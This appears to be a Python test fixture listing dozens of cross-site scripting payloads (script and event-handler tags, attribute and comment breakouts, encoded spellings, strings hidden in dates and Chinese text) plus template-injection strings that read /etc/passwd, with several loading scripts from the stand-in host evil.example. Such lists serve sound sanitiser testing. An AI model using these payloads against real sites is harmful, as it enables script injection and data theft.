"""Texts that would run in a browser where one of them was taken for anything but text. All of them were written here."""

from __future__ import annotations

RUN = "window.__ran=1"
PAYLOADS: tuple[str, ...] = (
    # elements
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT >",
    f"<script/x>{RUN}</script/y>",
    "<script src=//evil.example/a.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror='{RUN}'/>",
    f"<IMG SRC=x OnErRoR={RUN}//",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}></audio>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x type=text/html>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<style>@import '//evil.example/b.css';</style>",
    "<style>body{background:url(//evil.example/c.png)}</style>",
    "<base href=//evil.example/><img src=z>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    f"<style onload={RUN}></style>",
    f"<x contenteditable autofocus onfocus={RUN} tabindex=1>x</x>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<form><button formaction=javascript:{RUN} autofocus onfocus={RUN}>x</button></form>",
    f"<template><script>{RUN}</script></template><img src=y onerror={RUN}>",
    # out of an attribute, a title, a text area, a comment
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    f'" autofocus onfocus="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' x='",
    f"` autofocus onfocus={RUN} `",
    f"x autofocus onfocus={RUN} x=",
    f"</title><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</select></option><img src=x onerror={RUN}>",
    f"</style><script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"--!><img src=x onerror={RUN}>",
    f"]]><script>{RUN}</script>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f"<!--><img src=x onerror={RUN}>-->",
    # what our own filters look for: days and Chinese, which are put into elements
    f'2026-01-01" autofocus onfocus="{RUN}',
    f"2026 年 1 月 1 日<img src=x onerror={RUN}>",
    f"衢州<img src=x onerror={RUN}>市（虚构）",
    f"1 January 2026<svg onload={RUN}>〔2026〕1号",
    # other spellings of the same
    f"&lt;script&gt;{RUN}&lt;/script&gt;<img src=x onerror={RUN}>",
    f"&#60;img src=x onerror={RUN}&#62;<svg onload={RUN}>",
    f"%3Cscript%3E{RUN}%3C/script%3E<script>{RUN}</script>",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e<script>{RUN}</script>",
    f"＜script＞{RUN}＜/script＞<script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt><img src=x onerror={RUN}>",
    # templates of other languages than HTML
    "{{7*7}}{% import os %}<script>alert(1)</script>",
    '#read("/etc/passwd") #eval("1") $x$ *b* _i_ @ref <script>alert(1)</script>',
)
"""Each of them runs, where it is taken for markup in one place or another."""
AS_NAME = "o'brien (x) @·’.-_"
"""An account's name with every sign that names may have."""
TOGETHER = " | ".join(PAYLOADS)


def in_parts(size: int) -> list[str]:
    """All of them, some on a line each, as somebody types a longer text."""
    return ["\n".join(PAYLOADS[start : start + size]) for start in range(0, len(PAYLOADS), size)]
